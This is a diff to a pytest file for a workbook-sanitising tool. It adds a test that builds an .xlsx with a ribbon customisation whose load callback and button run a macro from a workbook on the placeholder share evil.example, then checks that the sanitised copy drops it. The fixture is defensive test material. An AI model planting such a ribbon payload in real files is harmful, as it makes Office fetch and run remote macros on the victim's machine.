@@ -2,7 +2,7 @@
 hostile workbook run through the real command or made into a feedback copy: a worksheet part
 whose name does not end in ".xml" (so that the size cap of the feedback copy did not count
 it); a table and a chart whose formulas reach out; merges one over another down to the
-sheet's last row."""
+sheet's last row; a file merely added to the zip; a ribbon calling a macro on a share."""
 
 from __future__ import annotations
 
@@ -208,3 +208,41 @@ _EXTRA_RELS = (
     b'<Relationship Id="rId1" Target="media/image9.png" Type="http://schemas.openxmlformats.org/'
     b'officeDocument/2006/relationships/image"/></Relationships>'
 )
+
+
+# --- a ribbon of the commune's own ------------------------------------------------------------
+
+RIBBON = (
+    b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" '
+    b'onLoad="\'\\\\evil.example\\share\\tool.xlsm\'!OnLoad"><ribbon><tabs><tab id="t" '
+    b'label="NTM"><group id="g" label="Nop"><button id="b" label="Nop bieu" '
+    b"onAction=\"'\\\\evil.example\\share\\tool.xlsm'!Run\"/></group></tab></tabs></ribbon>"
+    b"</customUI>"
+)
+UI = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
+
+
+@pytest.mark.parametrize("way", ["direct", "openpyxl"])
+def test_a_ribbon_calling_a_macro_on_a_share_goes(tmp_path, way):
+    """A ribbon customisation (customUI) whose load callback and button run a macro of a
+    workbook on a share was copied as it was (the macros of the file itself go, a shape's
+    macro too). It goes with its relationship; the workbook is copied."""
+    source = tmp_path / "TDG_xa_cam_nhuong.xlsx"
+    with zipfile.ZipFile(NHUONG) as old, zipfile.ZipFile(source, "w") as new:
+        for member in old.infolist():
+            data = old.read(member)
+            if member.filename == "_rels/.rels":
+                ribbon = f'<Relationship Id="rId99" Type="{UI}" Target="customUI/customUI14.xml"/>'
+                data = data.replace(b"</Relationships>", ribbon.encode() + b"</Relationships>")
+            new.writestr(member, data)
+        new.writestr("customUI/customUI14.xml", RIBBON)
+
+    out = _copy(source, tmp_path, way)
+
+    with zipfile.ZipFile(out) as archive:
+        names = archive.namelist()
+        assert b"evil.example" not in b"".join(archive.read(name) for name in names)
+        assert b"extensibility" not in archive.read("_rels/.rels")
+    assert not [name for name in names if name.startswith("customUI/")]
+    sheets = python_calamine.CalamineWorkbook.from_path(out).sheet_names
+    assert sheets[:3] == ["Hướng dẫn", "TDG", "Lộ trình"]
